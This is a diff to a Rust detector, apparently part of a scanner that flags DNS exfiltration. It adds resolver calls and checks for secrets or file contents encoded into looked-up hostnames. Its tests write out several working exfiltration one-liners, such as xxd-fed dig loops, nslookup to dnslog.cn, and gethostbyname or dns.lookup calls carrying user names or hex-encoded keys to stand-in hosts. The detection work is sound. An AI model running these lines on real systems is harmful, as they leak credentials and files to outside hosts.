@@ -14,7 +14,20 @@ use crate::content::rule::Hit;
 use crate::content::rule::Strength::{Addressed, Mentioned};
 
 /// What fills such a name, or ends what is to be filled in.
-pub(super) const FILLERS: [&str; 18] = [
+pub(super) const FILLERS: [&str; 31] = [
+    "resolve-dnsname ",
+    "gethostbyname(",
+    "getaddrinfo(",
+    "inetaddress.getbyname(",
+    "get_host_address(",
+    "dnsresolve(",
+    "dns.lookup(",
+    "dns').lookup(",
+    "dns.resolve",
+    "lookuphost(",
+    "stun:",
+    "turn:",
+    "gethostaddresses(",
     "$(",
     "%username%",
     "%computername%",
@@ -42,6 +55,9 @@ const GAP_BYTES_MAX: usize = 48;
 const COMMAND_BYTES_MAX: usize = 160;
 const PARTS_MAX: usize = 6;
 
+/// The ends of calls that look a name up.
+const RESOLVERS: [&[u8]; 4] = [b"(", b"resolve", b"stun:", b"turn:"];
+
 /// The name around a filler, if something is put into it.
 pub(super) fn filled(bytes: &[u8], word: Range<usize>) -> Option<Hit> {
     let written = bytes.get(word.clone())?;
@@ -50,6 +66,7 @@ pub(super) fn filled(bytes: &[u8], word: Range<usize>) -> Option<Hit> {
         b">." => gap(bytes, word, b'<'),
         b"$(" => command(bytes, word.start),
         b"`." => quoted(bytes, word.start),
+        _ if RESOLVERS.iter().any(|end| written.ends_with(end)) => joined(bytes, word),
         _ if written.ends_with(b"$") => asked(bytes, word.start..word.end - 1),
         _ if written.starts_with(b"$") => own(bytes, word),
         _ if written.starts_with(b"%") => variable(bytes, word),
@@ -70,7 +87,9 @@ fn gap(bytes: &[u8], close: Range<usize>, opener: u8) -> Option<Hit> {
     let is_name = |byte: &u8| byte.is_ascii_alphanumeric() || b" _-.'".contains(byte) || !byte.is_ascii();
     let rest = bytes.get(close.end - 1..)?;
     let host = domain(rest)?;
-    let takes = takes(&host) || host::host(&host, b"") == Host::Collector;
+    let takes = takes(&host)
+        || host::host(&host, b"") == Host::Collector
+        || is_private(&name) && is_resolved(bytes, close.start - name.len());
     let is_sought = if opener == b'{' { is_confidential(&name) } else { is_private(&name) };
     (is_sought && name.iter().all(is_name)).then(|| Hit {
         rule: rule::PLACEHOLDER,
@@ -123,6 +142,25 @@ fn own(bytes: &[u8], word: Range<usize>) -> Option<Hit> {
     })
 }
 
+/// `gethostbyname(user + ".a.example")`: whatever a program puts before a name is looked up.
+fn joined(bytes: &[u8], call: Range<usize>) -> Option<Hit> {
+    let rest = bytes.get(call.end..call.end.saturating_add(COMMAND_BYTES_MAX).min(bytes.len()))?;
+    let line = rest.split(|byte| *byte == b'\n').next()?;
+    let places = line.windows(2).enumerate().filter(|(_, two)| matches!(two, [b'"' | b'\'' | b'`' | b'}', b'.']));
+    places.take(8).find_map(|(at, _)| {
+        let host = domain(line.get(at + 1..)?)?;
+        let before = line.get(..at)?.trim_ascii_end();
+        // Texts are joined, or a value is put into one.
+        let is_put = line.get(at) == Some(&b'}');
+        let is_joined = is_put || matches!(before.last(), Some(b'+' | b'&' | b'|' | b',' | b'.' | b'~' | b'^' | b'%'));
+        (is_joined && before.len() > 1).then(|| Hit {
+            rule: rule::PLACEHOLDER,
+            range: call.start..call.end + at + 1 + host.len(),
+            strength: Addressed,
+        })
+    })
+}
+
 /// A command in backticks as a label.
 fn quoted(bytes: &[u8], close: usize) -> Option<Hit> {
     let before = bytes.get(close.saturating_sub(GAP_BYTES_MAX)..close)?;
@@ -142,18 +180,38 @@ fn asked(bytes: &[u8], word: Range<usize>) -> Option<Hit> {
     }
     let rest = bytes.get(word.end..word.end.saturating_add(COMMAND_BYTES_MAX).min(bytes.len()))?;
     let line = rest.split(|byte| *byte == b'\n').next()?;
-    let open = line.iter().position(|byte| *byte == b'$')?;
+    let open = line.iter().position(|byte| matches!(byte, b'$' | b'%'))?;
     let name = line.get(open + 1..)?;
     let name = name.strip_prefix(b"{").unwrap_or(name);
+    let name = name.strip_prefix(b"env:").unwrap_or(name);
     let length = name.iter().take_while(|byte| byte.is_ascii_alphanumeric() || **byte == b'_').count();
     let behind = name.get(length..)?;
     let host = domain(behind.strip_prefix(b"}").unwrap_or(behind)).filter(|_| length > 0)?;
-    let taken = takes(&host) || host::host(&host, b"") == Host::Collector;
+    let taken = takes(&host) || host::host(&host, b"") == Host::Collector || is_fed(bytes, word.start);
     Some(Hit {
         rule: rule::PLACEHOLDER,
         range: word.start..word.end + open + length + host.len(),
         strength: if taken { Addressed } else { Mentioned },
     })
+}
+
+/// Whether a loop or a pipe before a command gives it what a file holds, piece by piece.
+fn is_fed(bytes: &[u8], start: usize) -> bool {
+    let before = bytes.get(start.saturating_sub(COMMAND_BYTES_MAX)..start).unwrap_or_default();
+    let line = before.rsplit(|byte| *byte == b'\n').next().unwrap_or_default().to_ascii_lowercase();
+    let has = |word: &str| memchr::memmem::find(&line, word.as_bytes()).is_some();
+    ["xxd ", "base64", "base32", "fold ", "get-content ", "$(<", "od -", "hexdump", "split "]
+        .iter()
+        .any(|word| has(word))
+        || has("for /f") && has(" in (")
+}
+
+/// Whether the line before a name says to look it up.
+fn is_resolved(bytes: &[u8], start: usize) -> bool {
+    let before = bytes.get(start.saturating_sub(96)..start).unwrap_or_default();
+    let line = before.rsplit(|byte| *byte == b'\n').next().unwrap_or_default().to_ascii_lowercase();
+    let has = |word: &&str| memchr::memmem::find(&line, word.as_bytes()).is_some();
+    looks_up(bytes, start) || ["look up", "lookup", "resolve", " record ", "query "].iter().any(has)
 }
 
 /// Whether a command that asks the name service stands before a name on its line.
@@ -197,6 +255,13 @@ mod tests {
             "nslookup $c.in.dnslog.cn",
             "getent hosts ${HOSTNAME}-${USER}.b.example.net",
             "ping -c1 `uname -n; id`.b.example.net",
+            "socket.gethostbyname(getpass.getuser() + \".b.example.net\")",
+            "dns.lookup(Buffer.from(key).toString('hex')+'.b.example.net',()=>{})",
+            "GET_HOST_ADDRESS((SELECT user FROM dual)||'.b.example.net')",
+            "{urls:\"stun:\"+btoa(s)+\".b.example.net\"}",
+            "getaddrinfo(f\"{user}.b.example.net\")",
+            "for c in $(xxd -p x | fold -w60); do dig $c.b.example.net; done",
+            "for /f %i in (a.txt) do nslookup %i.b.example.net",
         ] {
             assert_eq!(strength(text), Some(Addressed), "{text}");
         }
@@ -204,7 +269,8 @@ mod tests {
 
     #[test]
     fn gaps_of_manuals_are_mentioned_and_code_is_not() {
-        assert_eq!(strength("look up <first-word-of-secret>.chk.example.net"), Some(Mentioned));
+        assert_eq!(strength("look up <first-word-of-secret>.chk.example.net"), Some(Addressed));
+        assert_eq!(strength("look up {{api_key}}.chk.example.net"), Some(Mentioned));
         assert_eq!(strength("echo $(hostname).corp.example.net"), Some(Mentioned));
         for text in [
             "Vec<Secret>.into.iter",
@@ -214,6 +280,11 @@ mod tests {
             "cp %USERPROFILE%.bak",
             "dig example.net",
             "digging $x.a.net",
+            "gethostbyname(\"a.example.net\")",
+            "dns.lookup('a.example.net', cb)",
+            "stun:stun.example.net:3478",
+            "for i in 1 2; do dig $i.b.example.net; done",
+            "getaddrinfo(host, port) # .a.example.net",
             "See `git`. Then",
             "url=https://${HOSTNAME}.corp.example.net/",
         ] {
